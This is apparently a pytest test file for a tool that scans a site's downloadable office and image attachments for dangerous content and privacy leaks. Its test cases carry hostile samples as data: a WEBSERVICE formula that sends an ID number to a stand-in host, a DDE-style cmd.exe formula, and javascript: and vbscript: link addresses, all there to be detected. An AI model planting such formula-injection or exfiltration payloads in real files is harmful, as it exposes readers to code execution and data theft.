"""Attachments are opened: what is dangerous is stopped, what is hidden is told, and what is good passes."""

from __future__ import annotations

from functools import cache
from pathlib import Path

import pytest
from bad_files import BAD, GOOD, TOLD, picture, word, workbook
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support import CONTENT, examples, make_checkout, writeup

from macros.content.attachments import Examiner, check_file
from macros.content.attachments.examine import READERS
from macros.content.attachments.office.formulas import is_dangerous, is_dangerous_address
from macros.content.data.privacy import load_privacy
from macros.content.data.vocabularies import load_vocabularies
from macros.content.files.kept import write_kept
from macros.content.load import load
from macros.content.model import Project
from macros.content.records import load_records
from macros.site.checks import check
from macros.words.problems import Place, Problem

RULES, _ = load_privacy(CONTENT)


def judged(folder: Path, name: str, content: bytes) -> list[Problem]:
    (folder / name).write_bytes(content)
    return list(check_file(folder, name, "projects/øy/index.md", Place(5, 9), Examiner(RULES)))


@pytest.mark.parametrize("what", BAD)
def test_a_bad_file_is_stopped(what: str, tmp_path: Path) -> None:
    code, name, make = BAD[what]
    problems = judged(tmp_path, name, make())
    assert [p.code for p in problems if p.severity == "error"] == [code]
    assert all((p.line, p.column) == (5, 9) and name in p.message and p.hint for p in problems)


@pytest.mark.parametrize("what", TOLD)
def test_a_hidden_thing_is_told_with_what_to_do(what: str, tmp_path: Path) -> None:
    code, name, make = TOLD[what]
    problems = judged(tmp_path, name, make())
    assert [(p.code, p.severity) for p in problems] == [(code, "warning")]
    assert problems[0].hint


@pytest.mark.parametrize("what", GOOD)
def test_a_good_file_passes_without_a_word(what: str, tmp_path: Path) -> None:
    name, make = GOOD[what]
    assert judged(tmp_path, name, make()) == []


def test_every_kind_that_is_allowed_can_be_opened() -> None:
    from macros.content.attachments import SIGNATURES

    assert SIGNATURES.keys() == READERS.keys()
    assert {name.rpartition(".")[2] for name, _ in GOOD.values()} >= {e[1:] for e in READERS} - {"pptx", "jpeg"}


HELPING = ("Valg", "Val", "Beregning", "Berekning", "Utrekning")
"""The sheets of our own that are hidden: the lists behind the choices, and what is worked out on the way."""


@pytest.mark.site
def test_everything_we_make_ourselves_passes(site: Path) -> None:
    """The forms, plans and models of the toolkit, the open data and the reports: what we demand of others.

    Only the sheets with the lists behind our choices are hidden, and told.
    """
    examine, seen = Examiner(RULES), set()
    for file in sorted(site.rglob("*")):
        if file.is_file() and file.suffix in READERS and "assets/js/vendor" not in file.as_posix():
            found = [(f.code, f.facts) for f in examine(file.read_bytes(), file.suffix)]
            assert found in ([], *([("VL028", {"found": name})] for name in HELPING)), file
            seen.add(file.suffix)
    assert seen >= {".docx", ".xlsx", ".csv"}


def test_a_bad_file_is_not_published_and_the_others_are(tmp_path: Path) -> None:
    listed = "[{file: plan.docx, title: Planen}]"
    root = make_checkout(
        tmp_path,
        {"ond/index.md": writeup(downloads=listed), "god/index.md": writeup(title="God på Øya", downloads=listed)},
    )
    (root / "projects/ond/plan.docx").write_bytes(BAD["remote template"][2]())
    (root / "projects/god/plan.docx").write_bytes(word())
    content = load(root)
    assert [p.slug for p in content.projects] == ["god"]
    (problem,) = [p for p in content.problems if p.severity == "error"]
    assert (problem.path, problem.code, problem.value) == ("projects/ond/index.md", "VL016", "plan.docx")
    assert problem.line == 10, "the line of the download"
    assert "https://ond.example/mal.dotm" in problem.message


def test_a_file_that_the_text_links_to_is_opened_too(tmp_path: Path) -> None:
    root = make_checkout(tmp_path, {"ond/index.md": writeup("## Mål\n\n[Planen](plan.docx)\n")})
    (root / "projects/ond/plan.docx").write_bytes(BAD["ole object"][2]())
    assert [p.code for p in load(root).problems] == ["VL017"]


def test_a_large_file_and_a_name_of_our_own_are_refused(tmp_path: Path) -> None:
    """VL004 and VL007."""
    listed = "[{file: stor.csv, title: Øya}, {file: gevinstplan.xlsx, title: Planen}]"
    root = make_checkout(tmp_path, {"ond/index.md": writeup(downloads=listed)})
    (root / "projects/ond/gevinstplan.xlsx").write_bytes(workbook())
    (root / "projects/ond/stor.csv").write_bytes(b"a;b\n")
    assert [p.code for p in check(load(root)) if p.code.startswith("VL")] == ["VL007"]
    (root / "projects/ond/stor.csv").write_bytes(b"a;b\n" * 5_000_001)
    assert [p.code for p in load(root).problems if p.severity == "error"] == ["VL004"]


def test_links_out_of_the_folder_are_refused(tmp_path: Path) -> None:
    root = make_checkout(tmp_path / "a", {"ond/index.md": writeup(downloads="[{file: hemmelig.txt, title: Øy}]")})
    (tmp_path / "hemmelig.txt").write_text("Hemmelig på Ærøya", encoding="utf-8")
    (root / "projects/ond/hemmelig.txt").symlink_to(tmp_path / "hemmelig.txt")
    (tmp_path / "utenfor").mkdir()
    (tmp_path / "utenfor/index.md").write_text(writeup(title="Utenfra"), encoding="utf-8")
    (root / "projects/utenfra").symlink_to(tmp_path / "utenfor")
    content = load(root)
    assert content.projects == ()
    assert {(p.path, p.code) for p in content.problems} == {
        ("projects/ond/hemmelig.txt", "FM015"),
        ("projects/utenfra", "FM015"),
    }
    # A command that reads write-ups alone does not follow them either.
    records, problems = load_records(root, "projects", Project, load_vocabularies(root)[0])
    assert records == []
    assert {(p.path, p.code) for p in problems} == {
        ("projects/ond/index.md", "VL032"),
        ("projects/utenfra/index.md", "FM015"),
    }


def test_a_verdict_is_kept_until_the_file_or_the_rules_change(tmp_path: Path) -> None:
    kept = tmp_path / "kept"
    content = workbook(lambda book: setattr(book.properties, "creator", "Ærlig Øksnes"))
    first = Examiner(RULES, kept)(content, ".xlsx")
    (file,) = kept.iterdir()
    write_kept(file, b'[["VL009", {}]]')
    assert [f.code for f in Examiner(RULES, kept)(content, ".xlsx")] == ["VL009"], "not opened again"
    file.write_text("{halv", encoding="utf-8")
    assert Examiner(RULES, kept)(content, ".xlsx") == first, "half a verdict counts as none"
    known = RULES.model_copy(update={"authors": ("Ærlig Øksnes",)})
    assert Examiner(known, kept)(content, ".xlsx") == ()
    other = workbook(lambda book: (setattr(book.properties, "creator", "Ærlig Øksnes"), book.create_sheet("Øy")))
    assert Examiner(RULES, kept)(other, ".xlsx") == first
    assert len(list(kept.iterdir())) == 3


def test_nothing_that_is_kept_tells_a_personal_number(tmp_path: Path) -> None:
    def fill(book: object) -> None:
        book.active["A2"] = '=WEBSERVICE("https://ond.example/?id=13097248022")'  # type: ignore[attr-defined]
        book.active["A3"] = "Født 130972 48022 på Ærøya"  # type: ignore[attr-defined]

    findings = Examiner(RULES, tmp_path)(workbook(fill), ".xlsx")
    assert [f.code for f in findings] == ["PV002", "VL018"]
    for file in tmp_path.iterdir():
        assert b"48022" not in file.read_bytes()


@cache
def sample(ending: str) -> bytes:
    """A good file of the kind, made once: a new one has the time of day in it, and another length."""
    pool = {".docx": word, ".xlsx": workbook, ".png": lambda: picture("PNG"), ".jpg": lambda: picture("JPEG")}
    make = pool.get(ending) or next((m for n, m in GOOD.values() if n.endswith(ending)), word)
    return make()


@settings(max_examples=examples(100), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data(), ending=st.sampled_from(sorted(READERS)))
def test_broken_bytes_give_a_verdict_and_never_a_traceback(data: st.DataObject, ending: str) -> None:
    """Bytes changed, cut and put in: whatever it is, the answer is a list."""
    content = bytearray(sample(ending))
    for _ in range(data.draw(st.integers(1, 8))):
        at = data.draw(st.integers(0, len(content) - 1))
        content[at : at + data.draw(st.integers(0, 40))] = data.draw(st.binary(max_size=40))
        content = content or bytearray(b"x")
    for finding in Examiner(RULES)(bytes(content), ending):
        assert finding.code[:2] in ("VL", "PV")


@pytest.mark.parametrize(
    ("text", "dangerous"),
    [
        ("SUM(A1:A9)", False),
        ('IF(A1="WEBSERVICE(x)";1;2)', False),
        ("MIN_WEBSERVICE(A1)", False),
        ("webservice(A1)", True),
        ("IMPORTXML(A1,A2)", True),
        ('HYPERLINK("mailto:post@øy.example")', False),
        ('HYPERLINK("#Ark1!A1")', False),
        ('HYPERLINK("file:///c:/x")', True),
        ('HYPERLINK("\\\\server\\x")', True),
        ("[1]Ark1!A1", True),
        ("Tabell[Beløp]", False),
        ("MSEXCEL|'\\..\\cmd.exe'!A", True),
    ],
)
def test_formulas(text: str, dangerous: bool) -> None:
    assert is_dangerous(text) is dangerous


@pytest.mark.parametrize("address", ["javascript:alert(1)", " JaVaScript:x", "vbscript:x", "file:///x", "C:\\x", "\\\\s\\x", "//s/x", "ms-word:ofe|u|x", "data:text/html,x"])  # fmt: skip
def test_addresses_that_are_not_for_readers(address: str) -> None:
    assert is_dangerous_address(address)


@pytest.mark.parametrize("address", ["https://innomed.no", "http://øy.example/a:b", "mailto:post@øy.example", "#kapittel", "Ark1!A1", "../plan.pdf", ""])  # fmt: skip
def test_addresses_for_readers(address: str) -> None:
    assert not is_dangerous_address(address)
